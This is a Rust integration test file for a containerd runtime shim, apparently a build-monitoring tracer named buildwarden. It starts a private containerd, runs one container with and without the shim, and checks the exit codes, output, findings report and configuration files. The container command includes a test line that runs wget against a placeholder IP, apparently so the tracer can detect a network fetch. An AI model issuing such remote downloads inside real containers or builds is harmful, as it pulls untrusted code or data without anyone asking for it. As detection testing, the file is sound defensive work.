//! containerd with the shim as the runtime of one container.

use crate::harness::{Dir, rootfs, run, until};
use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};
use std::{
    fs::{self, File},
    process::{Child, Command, Stdio},
};

/// A daemon on a socket of its own. Goes with its test.
struct Containerd<'a> {
    dir: &'a Dir,
    daemon: Child,
}

impl<'a> Containerd<'a> {
    #[track_caller]
    fn new(dir: &'a Dir) -> Containerd<'a> {
        let root = dir.path("containerd");
        fs::create_dir(&root).unwrap();
        let at = |name: &str| root.join(name);
        // No CRI: it wants a network of its own.
        let config = format!(
            "version = 2\nroot = {:?}\nstate = {:?}\ndisabled_plugins = ['io.containerd.grpc.v1.cri']\n\
             [grpc]\naddress = {:?}\n[debug]\naddress = {:?}\n",
            at("root"),
            at("state"),
            at("socket"),
            at("debug"),
        );
        fs::write(at("config.toml"), config).unwrap();
        let log = File::create(at("log")).unwrap();
        let mut daemon = Command::new("setpriv");
        daemon.args(["--pdeathsig", "TERM", "containerd", "--config"]).arg(at("config.toml"));
        daemon.env("BUILDWARDEN_CONFIG", dir.config());
        daemon.stdin(Stdio::null()).stdout(log.try_clone().unwrap()).stderr(log);
        let containerd = Containerd { dir, daemon: daemon.spawn().unwrap() };
        until("an answer of containerd", || {
            (run(containerd.ctr().arg("version")).code == 0).then_some(())
        });
        containerd
    }

    fn ctr(&self) -> Command {
        let mut command = Command::new("ctr");
        command.arg("--address").arg(self.dir.path("containerd/socket"));
        command.current_dir(self.dir.path(""));
        command
    }
}

impl Drop for Containerd<'_> {
    fn drop(&mut self) {
        let _ = kill(Pid::from_raw(self.daemon.id() as i32), Signal::SIGTERM);
        let _ = self.daemon.wait();
    }
}

#[test]
fn root_containerd_runs_the_shim() {
    let dir = Dir::new();
    let containerd = Containerd::new(&dir);
    let rootfs = rootfs(&dir);
    let shim = dir.shim("buildwarden-runc");
    let ctr = |options: &[&str], id: &str| {
        let mut command = containerd.ctr();
        command.args(["run", "--rm", "--cgroup"]).arg(format!("/{}.{id}", dir.name()));
        command.args(options).args(["--env", "PATH=/bin"]).arg("--rootfs").arg(&rootfs).arg(id);
        run(command.args([
            "/bin/sh",
            "-c",
            "echo out; echo err >&2; wget http://198.51.100.34/x; exit 5",
        ]))
    };
    let traced = ctr(&["--runc-binary", &shim.display().to_string()], "traced");
    let plain = ctr(&[], "plain");
    assert_eq!(
        (traced.code, traced.stdout(), traced.stderr()),
        (plain.code, plain.stdout(), plain.stderr())
    );
    assert_eq!(plain.code, 5, "{plain}");
    let report = dir.report("traced");
    assert_eq!(report.findings.len(), 1);
    assert_eq!(report.container.engine.as_deref(), Some("containerd"));
    assert_eq!(report.completeness.reasons, [""; 0]);
    assert_eq!(dir.runs(), ["traced"]);
    dir.expect_nothing_live();
}

#[test]
fn root_containerd_takes_the_documented_configuration() {
    let hooks = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("hooks/containerd");
    let mut command = Command::new("containerd");
    command.arg("--config").arg(hooks.join("config-v2.toml")).args(["config", "dump"]);
    let dump = run(&mut command).expect_code(0).stdout();
    assert!(dump.contains("default_runtime_name = \"buildwarden\""), "{dump}");
    assert!(dump.contains("BinaryName = \"/usr/bin/buildwarden-runc\""), "{dump}");
    // Debian 12 has no containerd that reads the other.
    let new = fs::read_to_string(hooks.join("config-v3.toml")).unwrap();
    let new: toml::Table = new.parse().unwrap();
    let runtime = &new["plugins"]["io.containerd.cri.v1.runtime"]["containerd"]["runtimes"];
    let binary = runtime["buildwarden"]["options"]["BinaryName"].as_str();
    assert_eq!(binary, Some("/usr/bin/buildwarden-runc"));
}
